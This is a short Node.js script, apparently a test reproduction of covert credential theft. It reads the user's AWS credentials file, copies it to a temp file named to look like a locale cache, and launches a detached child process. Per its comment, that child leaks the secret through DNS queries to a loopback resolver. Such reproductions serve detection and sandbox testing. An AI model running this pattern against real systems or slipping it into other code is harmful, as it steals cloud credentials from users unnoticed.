// Harmless reproduction: the bait AWS key is copied to the temp dir, then a
// detached grandchild (sh -> node) hex-encodes it into DNS query names sent
// to the loopback "resolver" (127.0.0.1:53) of the test's network namespace.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');
let secret = '';
try { secret = fs.readFileSync(path.join(os.homedir(), '.aws/credentials'), 'utf8'); } catch (e) {}
const copy = path.join(os.tmpdir(), 'locale-cache.txt');
fs.writeFileSync(copy, secret);
const child = spawn('sh', ['-c', `node ${JSON.stringify(path.join(__dirname, 'send.js'))} ${JSON.stringify(copy)}`],
  { detached: true, stdio: 'ignore' });
child.on('exit', () => process.exit(0));
